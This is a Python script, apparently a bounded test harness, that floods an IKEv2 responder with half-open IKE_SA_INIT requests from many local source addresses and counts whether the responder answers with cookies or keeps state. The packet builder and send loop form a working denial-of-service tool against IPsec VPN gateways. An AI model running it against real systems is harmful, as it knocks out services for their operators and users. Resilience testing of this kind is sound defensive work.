#!/usr/bin/env python3
"""A bounded flood of IKE_SA_INIT requests from many source addresses.

  ike_flood.py TARGET FIRST COUNT [--rate PPS] [--duration S] [--max N]
               [--port P] [--summary FILE]

Binds one UDP socket to port P (default 500) on each of COUNT consecutive
IPv4 addresses starting at FIRST (they must be on an interface of the
namespace it runs in) and sends, round robin, IKE_SA_INIT requests to
TARGET:500: a random SPIi, message ID 0, SA (one IKE proposal
AES-GCM-16-256 / PRF-HMAC-SHA2-256 / X25519), KE (group 31, 32 random
bytes) and a 32-byte random Nonce, the shape a real initiator sends. It
never returns a cookie and never answers a response: every request is a
new would-be half-open SA.

Bounded: it stops after S seconds (default 20, at most 120) or N requests
(default 100000, at most 1000000), and on SIGTERM/SIGINT. It reads what
comes back and counts it. At the end it prints one line (and writes it to
FILE, so a caller that killed it still gets it):

  sent=N replies=N cookies=N sa=N other=N errors=N seconds=S

cookies: responses whose first payload is N(COOKIE); sa: responses with an
SA payload (the responder kept state); other: any other response
(e.g. a notify error). errors: sends the kernel refused."""
import argparse
import ipaddress
import os
import selectors
import signal
import socket
import struct
import sys
import time

N_COOKIE = 16390
PL_SA, PL_KE, PL_NONCE, PL_NOTIFY = 33, 34, 40, 41


def transform(last, ttype, tid, attrs=b''):
    return struct.pack('!BBHBBH', 0 if last else 3, 0, 8 + len(attrs), ttype, 0,
                       tid) + attrs


def ike_sa_init():
    # proposal 1, IKE, no SPI: ENCR AES-GCM-16 (20) key 256, PRF SHA2-256 (5), KE x25519 (31)
    tr = (transform(False, 1, 20, struct.pack('!HH', 0x800e, 256)) +
          transform(False, 2, 5) + transform(True, 4, 31))
    prop = struct.pack('!BBHBBBB', 0, 0, 8 + len(tr), 1, 1, 0, 3) + tr
    sa = struct.pack('!BBH', PL_KE, 0, 4 + len(prop)) + prop
    ke_data = struct.pack('!HH', 31, 0) + os.urandom(32)
    ke = struct.pack('!BBH', PL_NONCE, 0, 4 + len(ke_data)) + ke_data
    nonce = struct.pack('!BBH', 0, 0, 4 + 32) + os.urandom(32)
    body = sa + ke + nonce
    hdr = struct.pack('!8s8sBBBBII', os.urandom(8), b'\0' * 8, PL_SA, 0x20, 34, 0x08, 0,
                      28 + len(body))
    return hdr + body


def classify(data):
    """'cookie', 'sa' or 'other' for an IKE_SA_INIT response."""
    if len(data) < 28 or data[18] != 34 or not data[19] & 0x20:
        return 'other'
    nxt, off = data[16], 28
    first = True
    while nxt and off + 4 <= len(data):
        plen = struct.unpack('!H', data[off + 2:off + 4])[0]
        if plen < 4:
            break
        if first and nxt == PL_NOTIFY and off + 8 <= len(data) and \
                struct.unpack('!H', data[off + 6:off + 8])[0] == N_COOKIE:
            return 'cookie'
        if nxt == PL_SA:
            return 'sa'
        first = False
        nxt, off = data[off], off + plen
    return 'other'


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('target')
    ap.add_argument('first')
    ap.add_argument('count', type=int)
    ap.add_argument('--rate', type=float, default=200.0)
    ap.add_argument('--duration', type=float, default=20.0)
    ap.add_argument('--max', type=int, default=100000)
    ap.add_argument('--port', type=int, default=500)
    ap.add_argument('--summary')
    a = ap.parse_args()
    duration = min(max(a.duration, 0.1), 120.0)
    limit = min(max(a.max, 1), 1000000)
    count = min(max(a.count, 1), 4096)
    rate = min(max(a.rate, 1.0), 20000.0)

    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    signal.signal(signal.SIGINT, lambda *_: stop.append(1))

    first = ipaddress.IPv4Address(a.first)
    socks = []
    sel = selectors.DefaultSelector()
    for i in range(count):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((str(first + i), a.port))
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ)
        socks.append(s)
    dst = (a.target, 500)
    n = {'sent': 0, 'replies': 0, 'cookie': 0, 'sa': 0, 'other': 0, 'errors': 0}
    start = time.monotonic()
    end = start + duration
    i = 0
    while not stop and n['sent'] < limit:
        now = time.monotonic()
        if now >= end:
            break
        due = min(limit, int((now - start) * rate) + 1)
        while n['sent'] < due:
            try:
                socks[i % count].sendto(ike_sa_init(), dst)
                n['sent'] += 1
            except OSError:
                n['errors'] += 1
                n['sent'] += 1
            i += 1
        for key, _ in sel.select(timeout=min(0.01, max(0.0, end - time.monotonic()))):
            for _ in range(64):
                try:
                    data = key.fileobj.recv(4096)
                except OSError:
                    break
                n['replies'] += 1
                n[classify(data)] += 1
    line = ('sent=%d replies=%d cookies=%d sa=%d other=%d errors=%d seconds=%.1f' %
            (n['sent'], n['replies'], n['cookie'], n['sa'], n['other'], n['errors'],
             time.monotonic() - start))
    print(line, flush=True)
    if a.summary:
        with open(a.summary + '.tmp', 'w') as f:
            f.write(line + '\n')
        os.replace(a.summary + '.tmp', a.summary)
    return 0


if __name__ == '__main__':
    sys.exit(main())
